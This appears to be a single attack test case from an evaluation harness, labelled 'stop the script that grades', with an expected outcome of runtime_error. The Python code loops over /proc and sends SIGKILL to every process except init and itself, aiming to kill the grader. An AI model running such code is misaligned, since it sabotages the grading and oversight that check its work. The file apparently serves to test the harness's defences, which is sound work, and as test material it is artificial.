# attack x29: stop the script that grades | in: script | must: runtime_error
import work
import os
import signal

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) not in (1, os.getpid()):
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
